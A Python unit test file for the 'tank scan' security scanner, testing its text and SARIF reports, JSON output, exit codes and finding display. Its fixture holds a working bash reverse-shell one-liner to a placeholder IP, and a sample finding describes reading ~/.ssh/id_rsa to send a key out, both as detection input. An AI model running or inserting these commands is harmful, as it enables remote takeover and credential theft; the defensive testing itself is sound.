"""Reporters and the ``tank scan`` command."""

from __future__ import annotations

import json
from pathlib import Path

from tank.cli.exit_codes import ExitCode
from tank.scanner import load_rules, scan_files
from tank.scanner.report import to_sarif, to_text
from tests.unit.cli.conftest import Tank

CORPUS = Path(__file__).resolve().parents[2] / "corpus"
BAD = {"run.sh": b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n"}


def test_text_names_file_line_rule_and_fix() -> None:
    text = to_text(scan_files(BAD), "x")
    assert "run.sh:1: critical [shell.reverse_shell]" in text and "fix: " in text
    assert text.rstrip().endswith("files)")


def test_sarif_is_2_1_0_with_rules_and_results() -> None:
    sarif = to_sarif(scan_files(BAD), load_rules())
    run = sarif["runs"][0]
    assert sarif["version"] == "2.1.0"
    rule_ids = {r["id"] for r in run["tool"]["driver"]["rules"]}
    assert {r["ruleId"] for r in run["results"]} <= rule_ids
    assert "shell.reverse_shell" in rule_ids
    assert run["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] == 1


def test_tank_scan_json_and_exit_codes(tank: Tank) -> None:
    bad = tank("scan", str(CORPUS / "malicious" / "sh-reverse-shell"), "--json")
    data = json.loads(bad.out)
    assert bad.code == ExitCode.SCAN_FAILED and data["verdict"] == "fail"
    keys = {"rule", "category", "severity", "file", "line", "message", "remediation"}
    assert keys <= set(data["findings"][0])
    good = tank("scan", str(CORPUS / "benign" / "weather-api"))
    assert good.code == ExitCode.OK and "pass" in good.out
    assert tank("scan", str(CORPUS / "benign" / "weather-api"), "--sarif").code == ExitCode.OK


def test_registry_findings_show_their_evidence_and_fix_when_explained() -> None:
    from tank.cli.render_skill import finding_lines

    item = {
        "severity": "critical",
        "rule": "python.exfiltration",
        "file": "x.py",
        "line": 9,
        "message": "sends a key out",
        "remediation": "Do not send keys.",
        "evidence": [{"role": "source", "file": "x.py", "line": 3, "what": "reads ~/.ssh/id_rsa"}],
    }
    assert finding_lines([item]) == ["critical[python.exfiltration]: sends a key out (x.py:9)"]
    assert finding_lines([item], explain=True)[1:] == [
        "    source: x.py:3 reads ~/.ssh/id_rsa",
        "    fix: Do not send keys.",
    ]
